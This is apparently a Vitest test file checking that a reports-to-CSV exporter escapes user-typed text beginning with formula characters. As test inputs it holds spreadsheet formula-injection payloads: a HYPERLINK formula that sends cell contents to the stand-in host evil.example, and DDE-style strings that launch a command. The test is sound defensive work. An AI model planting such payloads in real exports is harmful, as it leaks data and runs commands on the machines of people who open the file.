import { describe, expect, it } from 'vitest'
import { reportsToCsv } from './reports-csv.ts'

const reports = (query: string, topic: string, module: string) => ({
  summary: {
    totalQueries: 2,
    resolvedPercent: -1,
    trainingCompletionPercent: 0,
    avgResponseMinutes: null,
    avgResolutionMinutes: null,
    expertUsage: [],
  },
  topSearches: [{ query, count: 2, trend: 'up' as const }],
  lowConfidence: [{ topic, queries: 1, confidence: 0.5 }],
  training: [{ module, completion: 50, avgScore: 80 }],
  activity: [],
})

describe('the reports CSV', () => {
  // Questions and titles are anyone's typing; a spreadsheet runs a cell that starts like a formula.
  it('never starts a cell from what people typed with a formula character', () => {
    const csv = reportsToCsv(
      reports('=HYPERLINK("https://evil.example/?"&A1,"Manual")', '+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|"/C calc"!A0'),
    )
    const lines = csv.split('\n')
    expect(lines).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Manual"")",2,up`)
    expect(lines).toContain(`"'+cmd|"" /C calc""!A0",1,50`)
    expect(lines).toContain(`"'@SUM(1+1)*cmd|""/C calc""!A0",50,80`)
    // Figures stay numbers, a negative one too.
    expect(lines).toContain('Resolved cases (%),-1')
  })
})
